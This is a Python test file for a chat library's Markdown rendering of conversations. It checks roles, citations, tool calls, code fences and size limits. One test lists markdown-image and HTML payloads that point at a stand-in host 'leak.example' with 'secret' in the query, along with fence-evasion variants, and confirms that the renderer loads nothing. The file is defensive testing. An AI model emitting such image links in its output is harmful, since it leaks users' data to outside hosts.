"""The Markdown of conversations and turns, which loads nothing from anywhere."""

from __future__ import annotations

import pytest
from chat_core import (
    ChatResponse,
    Citation,
    Completed,
    File,
    Message,
    Messages,
    Native,
    Notice,
    Opaque,
    Origin,
    Part,
    Reasoning,
    Refusal,
    Structured,
    Text,
    ToolCall,
)
from markdown_it import MarkdownIt
from markdown_it.token import Token

PICTURE = File.from_bytes(b"\x89PNG\r\n\x1a\n", name="cat](x).png")


def markdown(*parts: Part) -> str:
    shown = ChatResponse(Message("model", list(parts)))._repr_markdown_()
    assert isinstance(shown, str)
    return shown


def tokens(text: str) -> list[Token]:
    """What a reader of Markdown makes of a text."""
    found: list[Token] = []
    for token in MarkdownIt("commonmark").parse(text):
        found += [token, *(token.children or [])]
    return found


def test_a_conversation_is_its_roles_and_parts() -> None:
    messages = Messages.from_user("What is **this**?", PICTURE)
    call = ToolCall("t1", "look", {"at": "`x`"}, Completed("A cat."))
    messages.append(Message("model", [Reasoning("Hm.\nYes."), call, Text("A cat.")], interrupted=True))
    assert messages._repr_markdown_() == "\n\n".join(
        [
            "**user**",
            "What is **this**?",
            "![catx.png](data:image/png;base64,iVBORw0KGgo=)",
            "**model** *(interrupted)*",
            "> Hm.\n> Yes.",
            '```\nlook({"at": "`x`"})\n```',
            "```\nA cat.\n```",
            "A cat.",
        ]
    )


def test_a_turn_has_its_sources_and_notices() -> None:
    text = Text("It rains.", (Citation("https://a.example/ x>"), Citation(None, "a book")))
    response = ChatResponse(Message("model", [text]), (Notice("seed", "was left out"),))
    assert response._repr_markdown_() == (
        "It rains. [\\[1\\]](<https://a.example/x>)\n\n> **seed**: was left out"
    )


def test_parts_without_text_are_shown_too() -> None:
    block = Opaque(Native(Origin("claude", "https://host", "m"), {"type": "x"}))
    shown = markdown(Refusal("No."), Structured({"a": 1}), block, File.from_id("file-1"), ToolCall("t", "n"))
    assert shown.split("\n\n") == [
        "> No.",
        '```json\n{"a": 1}\n```',
        "*a block of claude*",
        "*file file-1*",
        "```\nn({})\n```",
        "*pending*",
    ]


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://leak.example/?q=secret)",
        "![a][b]\n\n[b]: https://leak.example/x.png",
        "<img src='https://leak.example'>",
        "a <b onclick=x>bold</b> <!-- comment --> <?php ?>",
        "`code` ![a](https://leak.example) `code`",
        "```\ncode\n```\n![a](https://leak.example)",
        "~~~\ncode\n```\n~~~\n<img src=x>",
        "    ![a](https://leak.example)\n\n![a](https://leak.example)",
        "`` unclosed ![a](https://leak.example)",
    ],
)
def test_what_a_model_wrote_loads_nothing(text: str) -> None:
    shown = markdown(Text(text), Reasoning(text), ToolCall("t1", "n", {"x": text}, Completed(text)))
    assert {token.type for token in tokens(shown)} & {"image", "html_inline", "html_block"} == set()


def test_code_is_shown_as_it_was_written() -> None:
    code = "```html\n<img src='x'> ![a](b)\n```"
    assert markdown(Text(f"See:\n{code}\nand `<b>`, done")) == f"See:\n{code}\nand `<b>`, done"
    [shown] = [token for token in tokens(markdown(Text("```\nopen"), Text("after"))) if token.type == "fence"]
    assert shown.content == "open\n"  # a block that is left open does not swallow the next part


def test_it_is_bounded() -> None:
    assert len(markdown(Text("x" * 1_000_000))) < 25_000
    assert len(markdown(File.from_bytes(b"\x89PNG\r\n\x1a\n" + b"0" * 1_000_000))) < 100
    shown = Messages(Message("user", [Text("hi")]) for _ in range(5000))._repr_markdown_()
    assert shown.startswith("*4,950 earlier messages*\n\n**user**\n\nhi")
